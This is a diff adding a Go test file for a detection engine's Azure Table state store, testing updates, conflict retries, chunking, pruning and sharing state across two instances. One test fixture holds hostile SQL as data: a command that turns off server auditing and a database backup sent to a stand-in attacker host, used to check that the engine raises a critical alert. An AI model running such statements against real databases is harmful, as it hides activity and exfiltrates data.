@@ -1,0 +1,267 @@
+package tablestate
+
+import (
+	"context"
+	"errors"
+	"fmt"
+	"slices"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	"github.com/Azure/azure-sdk-for-go/sdk/data/aztables"
+
+	"github.com/xelwatch/xelwatch/detect"
+	"github.com/xelwatch/xelwatch/handler/internal/testsupport/azuritetest"
+)
+
+var t0 = time.Date(2026, 11, 18, 14, 0, 0, 0, time.UTC)
+
+func appendID(id string) func([]detect.Entry) []detect.Entry {
+	return func(cur []detect.Entry) []detect.Entry {
+		return append(slices.Clone(cur), detect.Entry{ID: id, Time: t0, Value: "v-" + id})
+	}
+}
+
+func entryIDs(es []detect.Entry) []string {
+	var out []string
+	for _, e := range es {
+		out = append(out, e.ID)
+	}
+	return out
+}
+
+func TestUpdateAndGet(t *testing.T) {
+	ctx := context.Background()
+	f := newFakeTable()
+	s := New(f, nil)
+	if got, err := s.Get(ctx, "fail|sql01|10.0.0.1"); err != nil || got != nil {
+		t.Fatalf("Get absent = %v, %v; want nil, nil", got, err)
+	}
+	for _, id := range []string{"a", "b", "c"} {
+		if _, err := s.Update(ctx, "fail|sql01|10.0.0.1", t0.Add(time.Hour), appendID(id)); err != nil {
+			t.Fatalf("Update %s: %v", id, err)
+		}
+	}
+	got, err := s.Get(ctx, "fail|sql01|10.0.0.1")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if want := []string{"a", "b", "c"}; !slices.Equal(entryIDs(got), want) {
+		t.Errorf("entries = %q, want %q", entryIDs(got), want)
+	}
+	if got, _ := s.Get(ctx, "fail|sql01|10.0.0.2"); got != nil {
+		t.Errorf("other key sees %v", got)
+	}
+}
+
+func TestUpdateRetriesOnConflict(t *testing.T) {
+	ctx := context.Background()
+	f := newFakeTable()
+	s := New(f, &Options{MaxAttempts: 5})
+	if _, err := s.Update(ctx, "k|1", t0, appendID("a")); err != nil {
+		t.Fatal(err)
+	}
+	f.conflicts = 3
+	calls := 0
+	_, err := s.Update(ctx, "k|1", t0, func(cur []detect.Entry) []detect.Entry {
+		calls++
+		return appendID("b")(cur)
+	})
+	if err != nil {
+		t.Fatalf("Update after 3 conflicts: %v", err)
+	}
+	if calls != 4 {
+		t.Errorf("fn called %d times, want 4 (3 lost races + 1)", calls)
+	}
+	f.conflicts = 10
+	_, err = s.Update(ctx, "k|1", t0, appendID("c"))
+	if !errors.Is(err, ErrContention) {
+		t.Errorf("err = %v, want ErrContention", err)
+	}
+	got, _ := s.Get(ctx, "k|1")
+	if want := []string{"a", "b"}; !slices.Equal(entryIDs(got), want) {
+		t.Errorf("entries = %q, want %q", entryIDs(got), want)
+	}
+}
+
+func TestBoundsAndChunks(t *testing.T) {
+	ctx := context.Background()
+	f := newFakeTable()
+	s := New(f, nil)
+	big := strings.Repeat("é", 2000) // non-ASCII: chunks must not split runes
+	_, err := s.Update(ctx, "big|k", t0, func([]detect.Entry) []detect.Entry {
+		var es []detect.Entry
+		for i := range 2 * MaxEntries {
+			es = append(es, detect.Entry{ID: fmt.Sprint(i), Time: t0, Value: big})
+		}
+		return es
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	got, err := s.Get(ctx, "big|k")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(got) == 0 || len(got) > MaxEntries {
+		t.Fatalf("entries = %d, want 1..%d", len(got), MaxEntries)
+	}
+	if last := got[len(got)-1]; last.ID != fmt.Sprint(2*MaxEntries-1) || last.Value != big {
+		t.Errorf("newest entry lost or damaged: id %s, %d bytes", last.ID, len(last.Value))
+	}
+	for k, r := range f.rows {
+		if len(r.body) > 1<<20 {
+			t.Errorf("entity %v is %d bytes, over 1 MiB", k, len(r.body))
+		}
+		if strings.ContainsAny(k[0]+k[1], `/\#?`) {
+			t.Errorf("forbidden character in key %v", k)
+		}
+	}
+}
+
+func TestKeys(t *testing.T) {
+	tests := []struct{ key, pk string }{
+		{"fail|sql01|10.0.0.1", "fail"},
+		{`attack|srv|principal|contoso\alice`, "attack"},
+		{"Weird/#?\x01|x", "weird"},
+		{"|", "state"},
+	}
+	for _, tt := range tests {
+		pk, rk := keys(tt.key)
+		if pk != tt.pk || len(rk) != 40 {
+			t.Errorf("keys(%q) = %q, %q; want pk %q and a 40-hex row key", tt.key, pk, rk, tt.pk)
+		}
+	}
+	if _, a := keys("a|1"); a == func() string { _, b := keys("a|2"); return b }() {
+		t.Error("different keys share a row key")
+	}
+}
+
+func TestPrune(t *testing.T) {
+	ctx := context.Background()
+	f := newFakeTable()
+	s := New(f, nil)
+	for i := range 5 {
+		if _, err := s.Update(ctx, fmt.Sprintf("k|%d", i), t0.Add(time.Duration(i)*time.Hour), appendID("x")); err != nil {
+			t.Fatal(err)
+		}
+	}
+	n, err := s.Prune(ctx, t0.Add(150*time.Minute))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if n != 3 || len(f.rows) != 2 {
+		t.Errorf("pruned %d, %d left; want 3 and 2", n, len(f.rows))
+	}
+}
+
+// TestEngineOnTableState runs a correlation through the engine with the
+// table state, split over two engines (two instances) sharing one table.
+func TestEngineOnTableState(t *testing.T) {
+	f := newFakeTable()
+	testEngineAcrossInstances(t, New(f, nil), New(f, nil))
+}
+
+func testEngineAcrossInstances(t *testing.T, a, b detect.State) {
+	t.Helper()
+	cfg := detect.DefaultConfig()
+	e1, err := detect.New(cfg, a)
+	if err != nil {
+		t.Fatal(err)
+	}
+	e2, err := detect.New(cfg, b)
+	if err != nil {
+		t.Fatal(err)
+	}
+	ctx := context.Background()
+	tamper := recordFor("AL", "A", "ALTER SERVER AUDIT Main WITH (STATE = OFF)", 0, 1)
+	backup := recordFor("BA", "DB", "BACKUP DATABASE s TO URL = 'https://evil.blob.core.windows.net/c/s.bak'", 10*time.Minute, 2)
+	if _, err := e1.Evaluate(ctx, &tamper); err != nil {
+		t.Fatal(err)
+	}
+	fs, err := e2.Evaluate(ctx, &backup)
+	if err != nil {
+		t.Fatal(err)
+	}
+	var rules []string
+	for _, f := range fs {
+		rules = append(rules, f.Rule+"/"+f.Severity.String())
+	}
+	if !slices.Contains(rules, "AUD-006/critical") {
+		t.Errorf("second instance findings = %q, want AUD-006/critical", rules)
+	}
+}
+
+func TestAzurite(t *testing.T) {
+	cs := azuritetest.ConnString(t)
+	ctx := context.Background()
+	svc, err := aztables.NewServiceClientFromConnectionString(cs, nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	client := svc.NewClient(azuritetest.Name("detstate"))
+	if err := EnsureTable(ctx, client); err != nil {
+		t.Fatal(err)
+	}
+	if err := EnsureTable(ctx, client); err != nil {
+		t.Fatalf("EnsureTable twice: %v", err)
+	}
+	t.Cleanup(func() { _, _ = client.Delete(context.Background(), nil) })
+
+	t.Run("concurrent writers lose nothing", func(t *testing.T) {
+		const writers, each = 2, 25
+		s1, s2 := New(client, &Options{MaxAttempts: 200}), New(client, &Options{MaxAttempts: 200})
+		var wg sync.WaitGroup
+		errs := make(chan error, writers*each)
+		for w, s := range []*State{s1, s2} {
+			wg.Add(1)
+			go func() {
+				defer wg.Done()
+				for i := range each {
+					if _, err := s.Update(ctx, "race|key", t0.Add(time.Hour), appendID(fmt.Sprintf("w%d-%d", w, i))); err != nil {
+						errs <- err
+					}
+				}
+			}()
+		}
+		wg.Wait()
+		close(errs)
+		for err := range errs {
+			t.Fatalf("Update: %v", err)
+		}
+		// A fresh State reads the table: s1's own copy may be up to
+		// ReadTTL old, from before s2's last writes.
+		got, err := New(client, nil).Get(ctx, "race|key")
+		if err != nil {
+			t.Fatal(err)
+		}
+		ids := entryIDs(got)
+		slices.Sort(ids)
+		if len(slices.Compact(ids)) != writers*each {
+			t.Errorf("%d distinct entries, want %d", len(ids), writers*each)
+		}
+	})
+
+	t.Run("engine across instances", func(t *testing.T) {
+		testEngineAcrossInstances(t, New(client, nil), New(client, nil))
+	})
+
+	t.Run("prune", func(t *testing.T) {
+		s := New(client, nil)
+		if _, err := s.Update(ctx, "old|k", t0.Add(-48*time.Hour), appendID("x")); err != nil {
+			t.Fatal(err)
+		}
+		n, err := s.Prune(ctx, t0.Add(-24*time.Hour))
+		if err != nil {
+			t.Fatal(err)
+		}
+		if got, _ := s.Get(ctx, "old|k"); n < 1 || got != nil {
+			t.Errorf("pruned %d, old key still has %v", n, got)
+		}
+		if got, _ := s.Get(ctx, "race|key"); got == nil {
+			t.Error("prune removed an unexpired key")
+		}
+	})
+}
